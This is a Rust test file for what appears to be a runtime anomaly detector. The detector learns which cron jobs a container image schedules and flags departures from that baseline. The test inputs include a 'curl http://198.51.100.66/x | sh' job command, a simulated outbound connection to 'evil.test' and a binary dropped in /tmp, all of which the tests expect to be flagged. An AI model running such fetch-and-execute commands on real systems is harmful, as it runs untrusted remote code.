//! What the image has its own scheduler do is learned from its first runs, whenever they come.

use super::*;
use crate::baseline::{
    schedule::{Schedule, Table},
    survey::Found,
};

const CRON: &str = "/usr/sbin/cron";
const SHELL: &str = "/usr/bin/dash";
const CRONTAB: &str = "47 6 * * 7 root cd / && run-parts --report /etc/cron.weekly\n";
const WEEKLY: &str = "cd / && run-parts --report /etc/cron.weekly";

/// A process that a line of others led to, the nearest first; each is known by a number of its own.
fn by(line: &[(&str, u32)], (exe, pid): (&str, u32), args: &str) -> Arc<Process> {
    let ancestors = line.iter().map(|(exe, pid)| Ancestor {
        pid: *pid,
        start_ns: 1,
        exe: exe.as_bytes().into(),
    });
    Arc::new(Process {
        pid,
        start_ns: 1,
        exe: exe.as_bytes().into(),
        args: args.replace('^', "\0").into_bytes().into(),
        origin: Origin::Init,
        lineage: Lineage::of(ancestors),
        ..Process::default()
    })
}

/// An image of which enough is known, whose weekly job has not run.
fn learned() -> Stage {
    let mut stage = Stage::learned_with(|stage| {
        for number in 1..=2 {
            stage.run(number, CRON, None);
        }
    });
    for wish in stage.baseline.take_wishes() {
        stage.baseline.look_into(Found {
            schedule: Some(Schedule::of([(Table::System, CRONTAB)])),
            ..wish.unfulfilled()
        });
    }
    stage
}

/// The same while the shell of number 100 runs that job for the first time.
fn in_first_run() -> Stage {
    let mut stage = learned();
    let shell = by(&[(CRON, 1)], (SHELL, 100), &format!("/bin/sh^-c^{WEEKLY}"));
    assert_eq!(stage.see(1, Some(&shell), &exec(code::IMAGE), None), None);
    stage
}

impl Stage {
    /// Runs a job whose shell has this number, and what its script calls; tells what departs.
    fn job(&mut self, command: &str, pid: u32) -> Vec<Rule> {
        let cron = (CRON, 1);
        let shell = by(&[cron], (SHELL, pid), &format!("/bin/sh^-c^{command}"));
        let rotate =
            by(&[(SHELL, pid), cron], ("/usr/sbin/logrotate", pid + 1), "logrotate^/etc/lr");
        let mut told = Vec::new();
        for process in [&shell, &rotate] {
            told.extend(rule(self.see(1, Some(process), &exec(code::IMAGE), None)));
        }
        for path in ["/cache/old.log", "/cache/run.sh"] {
            told.extend(rule(self.see(1, Some(&rotate), &write(path, 0o100_644), None)));
        }
        told.extend(rule(self.see(1, Some(&rotate), &connect(443), Some("evil.test"))));
        told
    }
}

#[test]
fn a_job_that_the_image_schedules_is_learned_from_its_first_runs() {
    let mut stage = learned();
    let worse = [Rule::NewSensitiveWrite, Rule::NewPeer];
    assert_eq!(stage.job(WEEKLY, 100), worse, "that is nobody's work");
    for run in 1..9 {
        assert_eq!(stage.job(WEEKLY, 100 + 10 * run), worse, "{run}");
    }
    let fourth = by(&[(CRON, 1)], (SHELL, 900), &format!("/bin/sh^-c^{WEEKLY}"));
    stage.see(1, Some(&fourth), &exec(code::IMAGE), None);
    let late = by(&[(SHELL, 900), (CRON, 1)], ("/usr/bin/perl", 901), "perl^/x");
    let told = rule(stage.see(1, Some(&late), &exec(code::IMAGE), None));
    assert_eq!(told, Some(Rule::NewProcess), "a job that is known does what it did");
}

#[test]
fn what_the_image_does_not_schedule_is_told() {
    let mut stage = learned();
    let told = stage.job("curl http://198.51.100.66/x | sh", 100);
    assert!(told.contains(&Rule::NewShell) && told.contains(&Rule::NewProcess), "{told:?}");
    let mut stage = learned();
    let shell = by(&[("/app", 1)], (SHELL, 100), &format!("/bin/sh^-c^{WEEKLY}"));
    let told = rule(stage.see(1, Some(&shell), &exec(code::IMAGE), None));
    assert_eq!(told, Some(Rule::NewShell), "it is not the scheduler that runs it");
}

#[test]
fn a_program_that_is_not_the_images_is_told_in_a_first_run_too() {
    let mut stage = in_first_run();
    let dropped = by(&[(SHELL, 100), (CRON, 1)], ("/tmp/x", 101), "/tmp/x");
    let told = rule(stage.see(1, Some(&dropped), &exec(code::TMPFS), None));
    assert_eq!(told, Some(Rule::NewProcess));
}

#[test]
fn what_a_job_leaves_behind_is_no_job_an_hour_later() {
    let mut stage = in_first_run();
    stage.pass(2);
    let server = by(&[(SHELL, 100), (CRON, 1)], ("/usr/bin/perl", 101), "perl^/x");
    let told = rule(stage.see(1, Some(&server), &exec(code::IMAGE), None));
    assert_eq!(told, Some(Rule::NewProcess));
}

#[test]
fn a_flood_in_a_first_run_is_told_and_switches_nothing_off() {
    let mut stage = in_first_run();
    let line = [(SHELL, 100), (CRON, 1)];
    let mut told = 0;
    for number in 0..200 {
        let one = format!("/usr/bin/{}", "x".repeat(number + 1));
        let of_job = by(&line, (&one, 101 + number as u32), &one);
        told += usize::from(stage.see(1, Some(&of_job), &exec(code::IMAGE), None).is_some());
    }
    assert!((100..=160).contains(&told), "{told}");
    assert!(stage.is_monitored(Dimension::Process));
    let other = by(&[("/app", 1)], ("/usr/bin/perl", 900), "perl^/x");
    assert_eq!(rule(stage.see(1, Some(&other), &exec(code::IMAGE), None)), Some(Rule::NewProcess));
}

#[test]
fn busybox_is_a_scheduler_where_it_was_called_so() {
    const BUSYBOX: &str = "/bin/busybox";
    let command = format!("sh^-c^{WEEKLY}");
    for (called, wanted) in [("crond^-f", None), ("sh^-x", Some(Rule::NewShell))] {
        let mut stage = learned();
        let parent = by(&[], (BUSYBOX, 50), called);
        stage.see(1, Some(&parent), &exec(code::IMAGE), None);
        let job = by(&[(BUSYBOX, 51), (BUSYBOX, 50)], (BUSYBOX, 52), &command);
        let told = rule(stage.see(1, Some(&job), &exec(code::IMAGE), None));
        assert_eq!(told, wanted, "{called}");
    }
}

#[test]
fn what_is_forgotten_has_its_first_runs_again() {
    let mut stage = learned();
    for run in 0..4 {
        stage.job(WEEKLY, 100 + 10 * run);
    }
    let (answer, _answered) = crossbeam_channel::bounded(1);
    let order = Order { whom: "shop/app".to_owned(), act: Act::Reset, answer };
    let image = |stage: &Stage| {
        let all = stage.baseline.profiles().iter();
        all.filter(|it| it.subject.is_image()).find_map(|it| it.schedule.clone())
    };
    let before = image(&stage).expect("it has one");
    stage.baseline.carry_out(&order, stage.now_ms / 1000);
    assert_ne!(image(&stage), Some(before));
    assert_eq!(image(&stage), Some(Schedule::of([(Table::System, CRONTAB)])));
}
